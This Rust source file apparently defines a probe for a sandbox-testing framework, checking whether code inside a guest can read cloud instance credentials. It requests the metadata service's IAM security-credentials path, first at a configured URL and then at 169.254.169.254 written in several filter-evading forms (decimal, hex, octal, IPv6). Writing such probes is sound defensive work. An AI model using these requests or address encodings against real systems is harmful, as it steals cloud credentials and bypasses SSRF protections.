//! A probe that asks for the credentials of the machine it runs on: at the configured URL, whose name may lead to the metadata service, then
//! in several spellings of the service's address.

use skysail_guest_sdk::Result;
use skysail_probe::http::{Request, report, request, send};

skysail_probe::probe!("http-metadata", attack);

const HOSTS: [&str; 6] = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "[::ffff:169.254.169.254]",
    "[fd00:ec2::254]",
];

fn attack() -> Result<String> {
    let named = Some(request()).filter(|request| !request.url.is_empty());
    let spelt =
        |host| Request { url: format!("http://{host}/latest/meta-data/iam/security-credentials/"), ..request() };
    let results: Vec<_> = named.into_iter().chain(HOSTS.map(spelt)).map(|request| send(&request)).collect();
    Ok(report(&results))
}
